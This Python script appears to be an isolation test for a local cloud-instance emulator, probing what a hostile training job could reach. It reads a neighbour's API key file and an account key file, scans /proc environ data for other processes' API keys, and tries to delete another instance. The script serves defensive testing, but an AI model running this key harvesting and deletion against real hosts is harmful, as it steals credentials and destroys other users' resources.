"""Run inside a local-cloud instance (`python3 -S attack.py VICTIM_DIR KEYFILE URL VICTIM_ID`): try what a
hostile or buggy training job could try against its neighbours, and report what it reached as JSON."""

import json
import os
import sys
import urllib.error
import urllib.request


def read(path):
    try:
        with open(path) as f:
            return f.read().strip()
    except OSError:
        return None


def listing(path):
    try:
        return sorted(os.listdir(path))
    except OSError:
        return None


def status_of(url, key, method):
    req = urllib.request.Request(
        url, method=method, data=b"{}" if method == "DELETE" else None, headers={"Authorization": f"Bearer {key}"}
    )
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return r.status
    except urllib.error.HTTPError as exc:
        return exc.code
    except OSError:
        return None


def main(victim_dir, keyfile, url, victim):
    own_key = os.environ.get("CONTAINER_API_KEY", "")
    others = []
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                env = f.read().split(b"\0")
        except OSError:
            continue
        for item in env:
            name, _, value = item.decode(errors="replace").partition("=")
            if name in ("CONTAINER_API_KEY", "VAST_API_KEY") and value and value != own_key:
                others.append(f"{name} of pid {pid}")
    report = {
        "sibling_key": read(os.path.join(victim_dir, ".vast_api_key")),
        "sibling_listing": listing(victim_dir),
        "root_listing": listing(os.path.dirname(os.getcwd())),
        "account_key": read(keyfile),
        "own_key": read(".vast_api_key"),
        "pids_seen": len(pids),
        "environ_secrets": others,
        "destroy_with_own_key": status_of(f"{url}/api/v0/instances/{victim}/", own_key, "DELETE"),
    }
    print(json.dumps(report))


if __name__ == "__main__":
    main(*sys.argv[1:5])
